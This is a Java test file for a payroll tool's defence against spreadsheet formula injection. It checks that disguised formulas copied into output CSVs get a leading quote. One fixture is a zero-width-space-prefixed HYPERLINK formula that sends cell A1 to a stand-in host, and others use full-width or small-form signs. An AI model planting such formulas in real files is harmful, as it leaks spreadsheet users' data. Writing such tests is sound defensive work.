package org.smartphone.payroll;

import static org.assertj.core.api.Assertions.assertThat;
import static org.smartphone.payroll.support.InputFiles.body;
import static org.smartphone.payroll.support.InputFiles.errorCells;
import static org.smartphone.payroll.support.InputFiles.write;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.smartphone.payroll.support.Programme;
import org.smartphone.payroll.support.TestDatabase;

/**
 * SPEC 5: text copied from the inputs into the outbox files and the errors file is never evaluated by
 * a spreadsheet, also when the formula hides behind a zero-width space or is written with full-width
 * or small signs. One month run through the real command line: three contracts whose names and
 * ministry codes are formulas in disguise, a register and a return each with one such cell (invalid,
 * hence in the errors file).
 */
class SpreadsheetSafeOutputsTests {

    /** U+200B ZERO WIDTH SPACE, then a formula that would make a link in the cell. */
    private static final String HIDDEN_LINK = "\u200B=HYPERLINK(\"http://x.example/?d=\"&A1,\"Awa\")";
    /** U+FF1D FULLWIDTH EQUALS SIGN: a spreadsheet normalising it reads =1+1. */
    private static final String FULL_WIDTH = "\uFF1D1+1";

    @TempDir
    Path dir;

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void everyCopiedFormulaInDisguiseGetsALeadingQuoteAndPlainTextStaysAsItIs(TestDatabase database) {
        Programme programme = new Programme(dir.resolve("home"), database);
        // 120 000 F over 12 months: 10 000 F due in 2026-01 from each contract
        Path contracts = write(
                dir,
                "contracts.csv",
                "contract_id,matricule,full_name,price_xof,first_period,ministry_code",
                "C-1,M-1,\"" + HIDDEN_LINK.replace("\"", "\"\"") + "\",120000,2026-01,MIN-A",
                "C-2,M-2," + FULL_WIDTH + ",120000,2026-01,\uFF0B221",
                "C-3,M-3,Awa Diop,120000,2026-01,\u200E-MIN");
        // M-1 pays in full; M-2's cap is 15 000 / 3 = 5 000 F; M-3's pay is a small-form formula, invalid
        Path register = write(
                dir,
                "payroll-2026-01.csv",
                "period,matricule,net_pay_xof,employment_status",
                "2026-01,M-1,300000,ACTIVE",
                "2026-01,M-2,15000,ACTIVE",
                "2026-01,M-3,\uFE661+1,ACTIVE");
        // C-2's withholding is a small-form plus, invalid: C-2 counts as not withheld
        Path withheld = write(
                dir,
                "withheld-2026-01.csv",
                "period,contract_id,matricule,amount_withheld_xof",
                "2026-01,C-1,M-1,10000",
                "2026-01,C-2,M-2,\uFE625000");

        assertThat(programme
                        .run("import-contracts", "--file", contracts.toString())
                        .exitCode())
                .isZero();
        Programme.Result deducted =
                programme.run("deduct", "--period", "2026-01", "--file", register.toString(), "--max-rejects", "1");
        assertThat(deducted.exitCode()).as(deducted.toString()).isZero();
        Programme.Result reconciled =
                programme.run("reconcile", "--period", "2026-01", "--file", withheld.toString(), "--max-rejects", "1");
        assertThat(reconciled.exitCode()).as(reconciled.toString()).isZero();

        Path outbox = programme.outbox("2026-01");
        Map<String, String> names = Map.of("C-1", "'" + HIDDEN_LINK, "C-2", "'" + FULL_WIDTH, "C-3", "Awa Diop");
        // deductions: period, matricule, contract_id, full_name, deduction_code, amount_xof
        assertThat(body(outbox.resolve("deductions-2026-01.csv")))
                .containsExactly(
                        List.of("2026-01", "M-1", "C-1", names.get("C-1"), "SMARTPHONE", "10000"),
                        List.of("2026-01", "M-2", "C-2", names.get("C-2"), "SMARTPHONE", "5000"));
        // exceptions: C-2 capped (5 000 short), C-3 absent from the register (its line was invalid)
        Map<String, List<String>> exceptions = byContract(body(outbox.resolve("deduction-exceptions-2026-01.csv")));
        assertThat(exceptions).containsOnlyKeys("C-2", "C-3");
        assertThat(exceptions.get("C-2").subList(3, 7)).containsExactly(names.get("C-2"), "10000", "5000", "5000");
        assertThat(exceptions.get("C-3").subList(3, 7)).containsExactly("Awa Diop", "10000", "0", "10000");
        // arrears: full_name and ministry_code copied; the computed cells (reason, amounts) never prefixed
        Map<String, List<String>> arrears = byContract(body(outbox.resolve("arrears-2026-01.csv")));
        assertThat(arrears).containsOnlyKeys("C-2", "C-3");
        assertThat(arrears.get("C-2").subList(3, 6)).containsExactly(names.get("C-2"), "'\uFF0B221", "10000");
        assertThat(arrears.get("C-3").subList(3, 6)).containsExactly("Awa Diop", "'\u200E-MIN", "10000");
        // the errors files: line, column, value
        assertThat(errorCells(programme, "payroll-2026-01.csv"))
                .containsExactly(List.of("4", "net_pay_xof", "'\uFE661+1"));
        assertThat(errorCells(programme, "withheld-2026-01.csv"))
                .containsExactly(List.of("3", "amount_withheld_xof", "'\uFE625000"));
    }

    private static Map<String, List<String>> byContract(List<List<String>> rows) {
        return rows.stream().collect(Collectors.toMap(row -> row.get(2), Function.identity()));
    }
}
